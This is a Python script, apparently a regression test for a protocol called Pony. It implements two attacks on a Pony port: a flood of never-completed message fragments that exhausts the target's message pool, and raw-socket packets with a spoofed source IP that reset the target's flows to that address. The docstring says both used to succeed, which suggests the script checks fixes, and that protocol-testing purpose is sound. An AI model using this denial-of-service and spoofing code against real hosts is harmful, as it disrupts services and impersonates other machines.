#!/usr/bin/env python3
# SPDX-License-Identifier: BSD-3-Clause
"""A third host attacking a Pony port (issue 13), from the Linux stack.

  pony_attacker.py partials DST [--count N]
      After address validation (it is at its own address: it echoes the
      CHALLENGE's token), N DATA packets (default 5000), each the 1-byte
      first piece of a new 64 KiB message abandoned by its sender (SKIP:
      no endpoint involved), never finished: they used to fill the
      target's whole message pool.
  pony_attacker.py spoof DST --as IP [--count N]
      N packets (default 2000) claiming to come from IP (raw socket), each
      starting a conversation with another epoch (random, and X + 2^31):
      they used to reset the target's flow to IP.

Speaks the wire format of transport/pony/pony_wire.h (version 4): a
24-byte header, then the type's extension, big-endian. Prints how many
packets went out and how many the target answered.
"""
import argparse
import random
import socket
import struct
import sys
import time

PONY_VERSION = 4
T_DATA, T_CHALLENGE, T_RESPONSE = 1, 8, 9
F_SKIP = 1 << 1
HDR = struct.Struct("!BBHIIIQ")        # ver type flags src_epoch dst_epoch psn ts_ns
DATA = struct.Struct("!IIIIIHHHH")     # msg_id stream seq msg_len off src_svc dst_svc seg_len rsvd
TOKEN = struct.Struct("!QQ")           # token ts_echo
EPOCH = 0x1234567


def validate(sock, dst):
    """Our first packet is challenged; echo the token (we are where we say)."""
    sock.settimeout(0.2)
    for _ in range(20):
        h = HDR.pack(PONY_VERSION, T_DATA, F_SKIP, EPOCH, 0, 0, time.monotonic_ns())
        sock.sendto(h + DATA.pack(0, 0, 0, 65536, 0, 1, 2, 1, 0), dst)
        try:
            while True:
                b = sock.recv(2048)
                v, t, _, _, de, _, _ = HDR.unpack_from(b)
                if v == PONY_VERSION and t == T_CHALLENGE and de == EPOCH:
                    tok, _ = TOKEN.unpack_from(b, HDR.size)
                    h = HDR.pack(PONY_VERSION, T_RESPONSE, 0, EPOCH, 0, 0, 0)
                    sock.sendto(h + TOKEN.pack(tok, 0), dst)
                    return True
        except socket.timeout:
            continue
    return False


def partials(sock, dst, count):
    if not validate(sock, dst):
        print("pony_attacker: no CHALLENGE from the target")
        sys.exit(1)
    epoch = EPOCH
    for i in range(count):
        h = HDR.pack(PONY_VERSION, T_DATA, F_SKIP, epoch, 0, i, time.monotonic_ns())
        d = DATA.pack(i, i // 256, i % 256, 65536, 0, 1, 2, 1, 0)
        sock.sendto(h + d, dst)
        if i % 64 == 63:
            time.sleep(0.001)  # af_packet's RX ring is small; be a steady flood


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xffff) + (s >> 16)
    return ~s & 0xffff


def spoof(dst, port, src_ip, count):
    """Raw IPv4/UDP from src_ip: conversation starts with other epochs."""
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    src, daddr = socket.inet_aton(src_ip), socket.inet_aton(dst)
    for i in range(count):
        epoch = (random.getrandbits(32) | 1) if i % 2 else (0x80000000 + i)
        h = HDR.pack(PONY_VERSION, T_DATA, 0, epoch, 0, i, 0)
        pay = h + DATA.pack(77, 0, 0, 1, 0, 1, 7, 1, 0) + b"x"
        ulen = 8 + len(pay)
        pseudo = src + daddr + struct.pack("!BBH", 0, 17, ulen)
        udp = struct.pack("!HHHH", port, port, ulen, 0) + pay
        c = csum(pseudo + udp) or 0xffff
        udp = udp[:6] + struct.pack("!H", c) + udp[8:]
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + ulen, i & 0xffff, 0, 64, 17, 0, src, daddr)
        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
        raw.sendto(ip + udp, (dst, 0))
        if i % 64 == 63:
            time.sleep(0.001)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("what", choices=["partials", "spoof"])
    ap.add_argument("dst")
    ap.add_argument("--port", type=int, default=7400)
    ap.add_argument("--count", type=int, default=5000)
    ap.add_argument("--as", dest="as_ip", help="spoof: the source address to claim")
    a = ap.parse_args()
    if a.what == "spoof":
        spoof(a.dst, a.port, a.as_ip, a.count)
        print(f"pony_attacker: {a.count} packets sent as {a.as_ip}")
        return 0
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.bind(("0.0.0.0", a.port))  # the target answers to its own Pony port
    dst = (a.dst, a.port)
    partials(s, dst, a.count)
    s.settimeout(0.5)
    acks = 0
    try:
        while True:
            s.recv(2048)
            acks += 1
    except socket.timeout:
        pass
    print(f"pony_attacker: {a.count} packets sent, {acks} answers")
    return 0


if __name__ == "__main__":
    sys.exit(main())
